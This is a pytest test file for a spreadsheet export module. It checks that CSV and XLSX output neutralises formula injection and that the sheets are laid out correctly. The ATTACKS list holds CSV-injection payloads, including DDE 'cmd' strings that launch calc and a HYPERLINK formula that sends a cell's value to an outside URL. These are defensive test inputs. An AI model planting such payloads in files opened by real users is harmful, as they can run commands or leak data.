"""A spreadsheet of words holds words: no program computes, links or runs anything in it."""

import csv
import datetime as dt
import io
import zipfile
from xml.etree import ElementTree

import pytest

from app.reports.spreadsheet import Column, Table, disarmed, write_csv, write_xlsx

AT = dt.datetime(2026, 3, 2, 9, tzinfo=dt.UTC)
BEGINNINGS = ["=", "+", "-", "@", "|", "%", "−", "＝", "＋", "－", "﹢", "﹣", "﹦", "＠", "﹫", "｜"]
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    '" ',
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u200f",
    "\x00",
    "\x1b",
]
INNER = [";", ",", "; ", ', "', ";'", "|", "; \t"]
ATTACKS = [
    *(f"{before}{sign}1+1" for sign in BEGINNINGS for before in BEFORE),
    *(f"harbour{parting}=1+1" for parting in INNER),
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org"),"//a")',
    "=1+1\n=2+2",
    "{=1+1}",
]
HARMLESS = [
    "The gate should open.",
    "1, 2 or 3",
    "P3.2",
    "a = b",
    "half-open; shut",
    "الموقف",
    "3 %",
    "–",
    "",
]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def table(*cells: str, lang: str = "en") -> Table:
    return Table("Table", lang, [Column("Words", 40)], [[cell] for cell in cells])


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def part(content: bytes, name: str) -> ElementTree.Element:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return ElementTree.fromstring(packed.read(name))  # noqa: S314 - written by ourselves


def is_armed(cell: str, separators: str) -> bool:
    """Whether a program that parts the cell here would compute something in it."""
    for separator in separators:
        cell = cell.replace(separator, "\n")
    pieces = (piece.strip(' "\u00a0\u200b\u200f\ufeff') for piece in cell.split("\n"))
    return any(piece.startswith(tuple(BEGINNINGS)) for piece in pieces)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_file_begins_as_a_formula_whatever_parts_it(attack: str) -> None:
    ((_,), (cell,)) = read_csv(write_csv(table(attack)))
    assert not is_armed(cell, ";,|\t"), cell


@pytest.mark.parametrize("words", HARMLESS)
def test_harmless_words_stay_as_they_are(words: str) -> None:
    assert disarmed(words) == words


def test_a_csv_file_says_that_it_is_utf8_and_quotes_everything() -> None:
    content = write_csv(table('The "gate"; الباب'))
    assert content == b"\xef\xbb\xbf" + '"Words"\r\n"The ""gate""; الباب"\r\n'.encode()


def test_an_xlsx_file_holds_strings_and_nothing_else() -> None:
    content = write_xlsx(table(*ATTACKS, "https://example.org", "mailto:a@example.org", "42", "1e5"), AT)
    sheet = part(content, "xl/worksheets/sheet1.xml")
    assert not list(sheet.iter(f"{MAIN}f"))
    assert not list(sheet.iter(f"{MAIN}hyperlink"))
    assert {cell.get("t") for cell in sheet.iter(f"{MAIN}c") if cell.find(f"{MAIN}v") is not None} == {"s"}
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        assert not [name for name in packed.namelist() if "external" in name or "vba" in name]
    words = ["".join(text.itertext()) for text in part(content, "xl/sharedStrings.xml").iter(f"{MAIN}si")]
    assert "https://example.org" in words
    assert "42" in words


def test_the_head_of_a_sheet_stays_in_sight_and_columns_have_their_width() -> None:
    sheet = part(write_xlsx(table("a"), AT), "xl/worksheets/sheet1.xml")
    pane = next(sheet.iter(f"{MAIN}pane"))
    assert (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
    assert float(next(sheet.iter(f"{MAIN}col")).get("width", 0)) > 39


@pytest.mark.parametrize(("lang", "turned"), [("en", None), ("ar", "1")])
def test_an_arabic_sheet_runs_from_right_to_left(lang: str, turned: str | None) -> None:
    sheet = part(write_xlsx(table("a", lang=lang), AT), "xl/worksheets/sheet1.xml")
    assert next(sheet.iter(f"{MAIN}sheetView")).get("rightToLeft") == turned


def test_the_same_table_gives_the_same_bytes() -> None:
    assert write_xlsx(table("a"), AT) == write_xlsx(table("a"), AT)


def test_a_cell_takes_as_much_as_a_spreadsheet_can_hold() -> None:
    content = write_xlsx(table("x" * 100_000), AT)
    assert len("".join(part(content, "xl/sharedStrings.xml").itertext())) == len("Words") + 32_767


def test_a_row_is_as_tall_as_its_longest_cell() -> None:
    sheet = part(write_xlsx(table("short", "long " * 60, "x" * 100_000), AT), "xl/worksheets/sheet1.xml")
    heights = [float(row.get("ht", 15)) for row in sheet.iter(f"{MAIN}row")]
    assert heights == [15, 15, 15 * 8, 15 * 27]
